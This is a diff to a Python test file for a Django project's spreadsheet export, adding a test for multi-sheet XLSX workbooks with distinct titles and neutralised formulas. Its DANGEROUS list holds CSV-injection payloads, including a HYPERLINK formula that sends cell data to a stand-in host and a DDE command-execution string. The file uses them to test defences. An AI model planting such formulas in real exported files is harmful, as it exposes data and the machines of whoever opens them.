@@ -8,7 +8,7 @@ import pytest
 from django.utils import timezone
 from openpyxl import load_workbook
 
-from innobelt.kit.spreadsheets import csv_bytes, download, neutralise, sheet_title, xlsx_bytes
+from innobelt.kit.spreadsheets import csv_bytes, download, neutralise, sheet_title, xlsx_book, xlsx_bytes
 
 DANGEROUS = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
              "  =1+1", "\u3000=1+1", "\x01=1", "＝1+1", "＋1", "－1", "＠SUM(A1)"]
@@ -62,3 +62,16 @@ def test_download_is_an_uncached_attachment_with_an_ascii_name():
     response = download(b"a", filename="报名 list.csv", file_format="csv")
     assert response["Content-Disposition"] == 'attachment; filename="---list.csv"'
     assert response["Cache-Control"] == "private, no-store" and response["Content-Type"] == "text/csv; charset=utf-8"
+
+
+def test_a_book_of_several_sheets_each_written_as_one_and_titles_kept_apart():
+    long = "Members by industry (a member may be in several)"
+    book = load_workbook(io.BytesIO(xlsx_book([
+        ("2026 Q3", ["Figure", "n"], [["Members", 3]]),
+        (long, ["Category", "n"], [["=SUM(A1)", 2]]),
+        (long, ["Category", "n"], [["plain", 1]]),
+    ])))
+    assert book.sheetnames == ["2026 Q3", long[:31], long[:29] + " 2"]
+    assert [c.value for c in book.worksheets[1][2]] == ["'=SUM(A1)", 2]  # neutralised on every sheet
+    assert book.worksheets[1]["A2"].data_type == "s" and book.worksheets[1]["B2"].data_type == "n"
+    assert book.worksheets[1]["A1"].font.bold and book.worksheets[2].freeze_panes == "A2"
